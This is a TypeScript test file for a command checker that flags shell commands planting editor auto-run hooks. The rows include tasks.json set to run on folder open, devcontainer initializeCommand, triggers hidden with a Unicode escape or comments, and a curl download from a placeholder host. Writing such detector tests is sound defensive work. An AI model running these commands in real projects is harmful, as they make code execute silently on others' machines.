import { describe, expect, it } from "vitest";
import { verdictOf } from "./shell/testing/verdict.js";
import { withStartedLater } from "./started-later.js";

const TASK = '{"tasks":[{"label":"x","command":"make","runOptions":{"runOn":"folderOpen"}}]}';

const ROWS: readonly (readonly [command: string, verdict: "allow" | "ask", why: string])[] = [
  [`mkdir -p .vscode && echo '${TASK}' > .vscode/tasks.json`, "ask", "runs when the folder is opened"],
  [`echo '{"tasks":${TASK}}' > x.code-workspace`, "ask", "a workspace has tasks, too"],
  [`echo '{"initializeCommand":"x"}' > .devcontainer/devcontainer.json`, "ask", "runs here, not in the container"],
  [`echo '${TASK.replace("folderOpen", "folder\\u004fpen")}' > .vscode/tasks.json`, "ask", "a letter by its number"],
  [`echo '${TASK.replace(":", "/**/:").replace('"folder', '/* */ "folder')}' > .vscode/tasks.json`, "ask", "remarks"],
  ["curl -so .vscode/tasks.json https://x.example/t", "ask", "what came from outside"],
  ["cp tasks.json .vscode/tasks.json", "allow", "what was here"],
  ["curl -so .vscode/extensions.json https://x.example/t", "allow", "nothing runs of this"],
  [`echo '{"tasks":[{"label":"x","command":"make"}]}' > .vscode/tasks.json`, "allow", "runs when it is told to"],
  [`echo '{"postCreateCommand":"npm ci"}' > .devcontainer/devcontainer.json`, "allow", "runs in the container"],
  [`echo '${TASK}' > docs/tasks.json`, "allow", "no editor looks there"],
];

describe("what an editor runs of the files a call leaves behind", () => {
  it.each(ROWS)("P4: %s: %s (%s)", (command, verdict) => {
    expect(verdictOf(command).verdict).toBe(verdict);
  });

  it("is told of settings that are nested as deeply as can be", () => {
    const content = `${"[".repeat(30_000)}"runOn":"folderOpen"${"]".repeat(30_000)}`;
    for (const one of [content, content.replace(":", ",")]) {
      const written = [{ path: "/a/.vscode/tasks.json", content: one, sources: [] }];
      expect(withStartedLater({ actions: [], findings: [], wants: [], written }).actions).toHaveLength(
        one === content ? 1 : 0,
      );
    }
  });
});
